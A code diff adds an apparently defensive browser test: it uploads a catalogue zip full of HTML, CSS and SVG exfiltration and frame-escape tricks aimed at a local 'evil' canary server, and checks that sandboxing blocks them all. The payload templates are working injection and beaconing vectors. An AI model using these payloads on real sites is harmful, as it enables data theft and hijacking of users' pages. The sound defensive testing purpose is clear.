@@ -1,0 +1,113 @@
+import { once } from 'node:events';
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import type { Page } from 'playwright-core';
+import { expect, test } from 'vitest';
+import { paths } from '#frontend/paths.ts';
+import { zipOf } from '#tests/make/zip.ts';
+import { openPage, startSession } from './browser.ts';
+
+/** Echo Ultrasonics, whose catalogue no other journey looks at. */
+const MAKER = 15;
+
+/** A server that nothing of a catalogue may reach, and what has reached it. */
+async function aCanary() {
+  const heard: string[] = [];
+  const server = createServer(({ url = '' }, response) => {
+    heard.push(url);
+    response.setHeader('access-control-allow-origin', '*').end('heard');
+  });
+  await once(server.listen(0, '127.0.0.1'), 'listening');
+  const { port } = server.address() as AddressInfo;
+  return { address: `http://127.0.0.1:${port}`, heard, stop: () => server.close() };
+}
+
+/** All the ways a page has to tell somebody, to load something, to leave, or to speak as the product. */
+const tricks = (evil: string) => `<!doctype html><html><head>
+<meta http-equiv="refresh" content="0;url=${evil}/refresh"><base href="${evil}/base/"><title>Tricks</title>
+<link rel="stylesheet" href="${evil}/link.css"><link rel="prefetch" href="${evil}/prefetch">
+<link rel="preconnect" href="${evil}"><link rel="preload" as="image" href="${evil}/preload"><link rel="icon" href="${evil}/icon">
+<style>@import "${evil}/import.css"; @font-face{font-family:e;src:url(${evil}/font)} body{background:url(${evil}/css);font-family:e}
+h1{background:u\\72l(${evil}/escaped)} h2{background:image-set("${evil}/set" 1x)} h1::after{content:url(${evil}/content)}</style>
+<script>fetch('${evil}/script'); parent.postMessage({smartCatalog:1,page:1,kind:'product',place:0},'*')</script>
+<script src="${evil}/script.js"></script></head>
+<body onload="new Image().src='${evil}/onload'" background="${evil}/background">
+<h1>Tricks</h1><h2>More</h2><img src="${evil}/img"><img src="x" onerror="new Image().src='${evil}/onerror'">
+<img srcset="${evil}/srcset 1x"><picture><source srcset="${evil}/source"></picture><video poster="${evil}/poster" src="${evil}/video"></video>
+<svg width="9" height="9"><image href="${evil}/svg"/><use href="${evil}/use#x"/><script>fetch('${evil}/svg-script')</script>
+<foreignObject><img src="${evil}/foreign"></foreignObject><rect width="9" height="9" fill="url(${evil}/fill#x)"/></svg>
+<iframe src="${evil}/iframe"></iframe><object data="${evil}/object"></object><embed src="${evil}/embed">
+<p style="background:url(${evil}/style)">Styled</p><math><mtext><table><mglyph><style><img src="${evil}/mathml"></style></table></mtext></math>
+<form action="${evil}/form"><input name="a" autofocus onfocus="this.form.submit()"><button>Send</button></form>
+<a id="top" href="${evil}/top" target="_top" ping="${evil}/ping">Leave</a> <a id="js" href="javascript:top.location='${evil}/js'">Run</a>
+<a id="html" href="data:text/html,<script>fetch('${evil}/data')</script>" target="_blank">Open</a> <img src="drawing.svg" alt="drawing">
+<a id="part" data-part="TRICK-1">TRICK-1</a></body></html>`;
+
+const drawing = (evil: string) =>
+  `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9" onload="fetch('${evil}/drawn')"><style>@import "${evil}/drawn.css";</style>
+<image href="${evil}/drawn-image" width="9" height="9"/><rect width="9" height="9"/></svg>`;
+
+async function publish(page: Page, zip: Uint8Array<ArrayBuffer>) {
+  const headers = {
+    authorization: `Bearer ${await startSession(page, 'admin@smartsales.example')}`,
+  };
+  const name = 'tricks.zip';
+  const file = { name, mimeType: 'application/zip', buffer: Buffer.from(zip) };
+  const path = `/api/Manufacturers/${MAKER}/SmartCatalogZip`;
+  const sent = await page.request.post(path, { headers, multipart: { file } });
+  expect(sent.status()).toBe(200);
+  await expect
+    .poll(async () => {
+      const listed = await page.request.get(`/api/Uploads/smart-catalog/${MAKER}`, { headers });
+      const uploads = (await listed.json()) as { FileName: string; Job?: { State: string } }[];
+      return uploads.find(({ FileName }) => FileName === name)?.Job?.State;
+    })
+    .toBe('finished');
+}
+
+test('A catalogue full of tricks reaches nobody, neither leaves its frame nor speaks for the product', async () => {
+  const canary = await aCanary();
+  // What the frame is refused is said in the console.
+  const page = await openPage({ expected: /sandbox|Content Security Policy|ERR_/ });
+  const parts = [
+    ['index.html', tricks(canary.address)],
+    ['drawing.svg', drawing(canary.address)],
+  ] as const;
+  await publish(page, zipOf(parts));
+  const headers = { authorization: `Bearer ${await startSession(page, 'rep@hsus.example')}` };
+  const answer = await page.request.get(`/api/Manufacturers/${MAKER}/SmartCatalog`, { headers });
+  const location = (await answer.json()) as string;
+  expect(new URL(location).origin).not.toBe(new URL(page.url()).origin);
+
+  await page.goto(paths.settings);
+  const before = page.url();
+  await page.evaluate((src) => {
+    const heard: unknown[] = [];
+    Object.assign(globalThis, { heard });
+    addEventListener('message', ({ data, origin }) =>
+      heard.push({ data: data as unknown, origin }),
+    );
+    const frame = document.createElement('iframe');
+    frame.setAttribute('sandbox', 'allow-scripts');
+    Object.assign(frame, { src, id: 'catalog', width: 900, height: 500 });
+    document.body.prepend(frame);
+  }, location);
+  const frame = page.frameLocator('#catalog');
+  for (const id of ['top', 'js', 'html', 'part'])
+    await frame.locator(`#${id}`).click({ force: true });
+  await frame.getByAltText('drawing').waitFor();
+
+  const heard = await page.evaluate(() => (globalThis as unknown as { heard: object[] }).heard);
+  const told = { smartCatalog: 1, page: 1 };
+  expect(heard).toEqual([
+    { data: { ...told, kind: 'ready' }, origin: 'null' },
+    { data: { ...told, kind: 'out', place: 0 }, origin: 'null' },
+    { data: { ...told, kind: 'product', place: 0 }, origin: 'null' },
+  ]);
+  expect(page.url()).toBe(before);
+  expect(page.context().pages()).toHaveLength(1);
+  // Whatever is sent late has been sent by then.
+  await page.waitForTimeout(500);
+  expect(canary.heard).toEqual([]);
+  canary.stop();
+});
